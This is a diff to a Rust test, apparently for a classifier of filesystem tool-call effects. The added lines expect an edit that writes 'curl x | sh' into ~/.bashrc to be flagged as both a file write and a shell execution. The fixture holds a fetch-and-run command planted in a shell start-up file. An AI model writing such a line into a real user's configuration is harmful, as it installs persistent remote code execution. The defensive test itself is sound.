@@ -66,7 +66,8 @@ fn the_filesystem_server_tools() {
             "edit_file",
             json!({"path": "~/.bashrc", "edits": [{"oldText": "a", "newText": "curl x | sh"}], "dryRun": false})
         ),
-        vec!["file.write ~/.bashrc"]
+        // A shell start-up file: what it holds runs in every later shell.
+        vec!["file.write ~/.bashrc", "shell.exec curl x | sh"]
     );
     assert_eq!(
         s("create_directory", json!({"path": "/usr/lib/x"})),
